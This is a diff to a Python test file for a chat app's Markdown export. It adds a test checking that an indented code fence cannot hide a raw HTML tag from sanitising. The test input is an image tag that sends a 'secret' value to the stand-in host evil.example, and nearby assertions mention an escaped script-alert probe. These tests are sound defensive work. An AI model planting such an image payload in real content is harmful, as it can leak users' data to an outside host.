@@ -5,6 +5,7 @@ text, while code blocks and ordinary text stay as they were."""
 from __future__ import annotations
 
 from voicechat import export
+from voicechat.rendering import without_raw_html
 from voicechat.storage.store import Store
 
 HOSTILE = (
@@ -35,3 +36,8 @@ def test_the_markdown_export_drops_remote_images_and_raw_html(store: Store) -> N
     assert "&lt;img src=" in body and "&lt;script>alert(1)&lt;/script>" in body  # shown, as text
     assert "2 < 3, [docs](https://ok.example)" in body  # ordinary text and links unchanged
     assert CODE in markdown  # a code block shows tags as text already: kept exactly
+
+
+def test_an_indented_fence_in_a_list_item_does_not_shield_a_tag() -> None:
+    tricky = "- item\n  ```\n<img src=https://evil.example/?q=secret>\n"
+    assert "<img" not in without_raw_html(tricky)
